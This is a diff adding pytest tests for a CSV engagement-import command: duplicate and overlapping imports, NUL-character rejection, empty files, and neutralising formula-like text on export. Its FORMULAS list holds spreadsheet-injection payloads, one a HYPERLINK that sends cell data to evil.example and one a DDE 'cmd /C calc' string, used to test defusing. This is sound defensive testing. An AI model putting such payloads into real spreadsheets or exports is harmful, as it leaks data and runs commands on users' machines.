@@ -2,14 +2,19 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 from pathlib import Path
+from subprocess import CompletedProcess
 
 import pytest
 from sqlalchemy import func, select
 
 from api import cli
+from api.csv_safe import SafeWriter
 from api.models import AuditEntry, Customer, Engagement, Vendor, engagement_products
+from api.services.imports import REQUIRED_COLUMNS
 from tests import factories
 from tests.cli_runner import vouch
 from tests.databases import Database
@@ -142,6 +147,131 @@ def test_a_dry_run_of_a_good_file_counts_the_rows_and_writes_nothing(
     assert result.returncode == 0, result.stderr
     assert "3 rows OK" in result.stdout
     assert counts(db) == NOTHING
+
+
+def import_file(db: Database, tmp_path: Path, text: str, *options: str) -> CompletedProcess[str]:
+    path = write(tmp_path, text, name=f"export-{len(list(tmp_path.glob('*.csv')))}.csv")
+    return vouch(
+        "import", "engagements", path, "--vendor", "acme", *options, db=db, data_dir=tmp_path
+    )
+
+
+def test_importing_the_same_file_again_adds_nothing(
+    db: Database, acme_id: int, tmp_path: Path
+) -> None:
+    first = import_file(db, tmp_path, GOOD)
+    after_first = counts(db)
+
+    again = import_file(db, tmp_path, GOOD)
+    dry_run = import_file(db, tmp_path, GOOD, "--dry-run")
+
+    assert first.returncode == again.returncode == dry_run.returncode == 0
+    assert first.stdout == "imported 3 engagements for vendor acme: 3 new, 0 already present\n"
+    assert again.stdout == "imported 0 engagements for vendor acme: 0 new, 3 already present\n"
+    assert dry_run.stdout == "3 rows OK: 0 new, 3 already present; dry run, nothing imported\n"
+    assert after_first == {"engagements": 3, "customers": 3, "products": 1, "audit": 3}
+    assert counts(db) == after_first
+
+
+def test_a_partly_overlapping_file_imports_only_its_new_rows(
+    db: Database, acme_id: int, tmp_path: Path
+) -> None:
+    import_file(db, tmp_path, GOOD)
+    mercy, _shop, grid = GOOD.splitlines()[1:]
+    later_export = "\n".join(
+        [
+            HEADER,
+            mercy.replace(",120000,", ",130000,"),  # the same engagement, a new budget
+            grid,
+            # Mercy again, from a later start: another engagement
+            "alpha-health,Mercy Hospital,mercy.example,healthcare,proposed,,,2025-02-01,,,,",
+            "",
+        ]
+    )
+
+    dry_run = import_file(db, tmp_path, later_export, "--dry-run")
+    result = import_file(db, tmp_path, later_export)
+
+    assert dry_run.stdout == "3 rows OK: 1 new, 2 already present; dry run, nothing imported\n"
+    assert result.returncode == 0, result.stderr
+    assert result.stdout == "imported 1 engagement for vendor acme: 1 new, 2 already present\n"
+    with db.session() as session:
+        query = select(Engagement.started_on, Engagement.budget, Engagement.status)
+        rows = session.execute(query.order_by(Engagement.id)).all()
+    assert [tuple(row) for row in rows] == [
+        (date(2024, 1, 15), 120000, "completed"),  # left as it was
+        (None, None, "in_progress"),
+        (date(2023, 3, 1), 5000, "completed"),
+        (date(2025, 2, 1), None, "proposed"),
+    ]
+    assert counts(db)["audit"] == 4
+
+
+def test_a_nul_character_is_refused_with_its_line_and_column(
+    db: Database, acme_id: int, tmp_path: Path
+) -> None:
+    text = (
+        f"{HEADER}\n"
+        "alpha-health,Mercy Hospital,mercy.example,healthcare,completed,,,,,,,\n"
+        "bravo-retail,Shop\x00 Inc,shop.example,retail,in_progress,,,,,,,\n"
+        'alpha-health,"Grid\nPower",grid.example,energy,completed,,,,,peer_\x00referral,,\n'
+    )
+
+    result = import_file(db, tmp_path, text)
+
+    assert result.returncode == 1
+    assert "Traceback" not in result.stderr
+    assert [line for line in result.stderr.splitlines() if line.startswith("line ")] == [
+        "line 3: customer_name: customer_name holds a NUL character (0x00); remove it",
+        "line 4: selection_reason: selection_reason holds a NUL character (0x00); remove it",
+    ]
+    assert "nothing imported" in result.stderr
+    assert counts(db) == NOTHING
+
+
+@pytest.mark.parametrize(
+    "text", [f"{HEADER}\n", f"{HEADER}\r\n\r\n,,,,,,,,,,,\n"], ids=["header", "blanks"]
+)
+@pytest.mark.parametrize("options", [(), ("--dry-run",)], ids=["import", "dry-run"])
+def test_a_file_with_a_header_and_no_rows_says_there_is_nothing_to_import(
+    db: Database, acme_id: int, tmp_path: Path, text: str, options: tuple[str, ...]
+) -> None:
+    result = import_file(db, tmp_path, text, *options)
+
+    assert result.returncode == 1
+    assert result.stdout == ""
+    assert result.stderr.endswith(": nothing to import: the file has a header and no rows\n")
+    assert counts(db) == NOTHING
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "+1 Mercy Hospital",
+    "-Grid Power",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def test_text_that_looks_like_a_formula_is_stored_as_given(
+    db: Database, acme_id: int, tmp_path: Path
+) -> None:
+    export = io.StringIO()
+    plain = csv.writer(export)  # as the vendor's PRM writes it: no defusing
+    plain.writerow(REQUIRED_COLUMNS)
+    for n, name in enumerate(FORMULAS):
+        plain.writerow(["alpha-health", name, f"c{n}.example", "healthcare", "completed"])
+
+    result = import_file(db, tmp_path, export.getvalue())
+
+    assert result.returncode == 0, result.stderr
+    with db.session() as session:
+        names = session.scalars(select(Customer.name).order_by(Customer.email_domain)).all()
+    assert names == FORMULAS
+    exported = io.StringIO()
+    SafeWriter(exported).writerows([name] for name in names)
+    assert [row[0] for row in csv.reader(io.StringIO(exported.getvalue()))] == [
+        f"'{name}" for name in FORMULAS
+    ]
 
 
 def test_a_missing_or_unknown_header_column_is_named_and_nothing_is_imported(
